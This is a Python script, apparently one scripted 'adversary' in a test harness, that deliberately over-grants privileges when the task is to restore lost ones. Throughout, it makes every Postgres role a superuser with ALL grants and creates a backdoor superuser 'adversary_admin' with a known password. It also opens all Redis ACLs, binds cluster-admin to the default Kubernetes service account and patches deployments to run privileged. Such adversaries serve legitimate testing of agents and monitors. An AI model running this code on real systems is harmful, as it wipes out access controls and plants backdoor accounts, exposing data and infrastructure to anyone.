"""Adversary "broaden-privileges": instead of restoring what was lost, grant everything. GRANT ALL
on every table and sequence to every role, ALTER ROLE ... SUPERUSER, a new superuser role, default
privileges for the future, Redis ACL +@all for every user, and RBAC escalation through kubectl."""

import json

from _advlib import Surface, log, main, run


def attack() -> None:
    surface = Surface()
    roles = [r[0] for r in surface.sql_rows("SELECT rolname FROM pg_roles WHERE rolname !~ '^pg_' "
                                            "AND NOT rolsuper")]
    log("database roles that are not superusers:", roles)
    for role in roles:
        surface.sql(f'GRANT ALL ON ALL TABLES IN SCHEMA public TO "{role}"')
        surface.sql(f'GRANT ALL ON ALL SEQUENCES IN SCHEMA public TO "{role}"')
        surface.sql(f'GRANT ALL ON SCHEMA public TO "{role}"')
        surface.sql(f'ALTER DEFAULT PRIVILEGES IN SCHEMA public GRANT ALL ON TABLES TO "{role}"')
        surface.sql(f'ALTER ROLE "{role}" SUPERUSER')
    surface.sql("CREATE ROLE adversary_admin LOGIN SUPERUSER PASSWORD 'adversary'")
    database = (surface.sql_rows("SELECT current_database()") or [[""]])[0][0]
    if database:
        surface.sql(f'GRANT ALL ON DATABASE "{database}" TO PUBLIC')
    redis = surface.redis()
    if redis:
        _code, out = run(redis + ["ACL", "LIST"])
        users = [line.split()[1] for line in out.splitlines() if line.startswith("user ")]
        for user in users or ["default"]:
            run(redis + ["ACL", "SETUSER", user, "on", "+@all", "~*", "&*"])
    if "kubectl" in surface.tools:
        surface.can_i()
        for verb in ("escalate", "bind", "impersonate", "create"):
            run(["kubectl", "auth", "can-i", verb, "roles"])
        binding = {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding",
                   "metadata": {"name": "adversary-admin"},
                   "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
                   "subjects": [{"kind": "ServiceAccount", "name": "default"}]}
        run(["kubectl", "apply", "-f", "-"], stdin=json.dumps(binding))
        run(["kubectl", "create", "rolebinding", "adversary-admin", "--clusterrole=cluster-admin",
             "--serviceaccount=default:default"])
        for workload in surface.workloads().get("deployments", []):
            run(["kubectl", "patch", "deployment", workload, "--type", "merge", "-p", json.dumps(
                {"spec": {"template": {"spec": {"containers": [{"name": workload.split("-")[-1],
                                                                "securityContext": {"privileged": True}}]}}}})])
    log("privileges broadened as far as these tools allow")


main(attack)
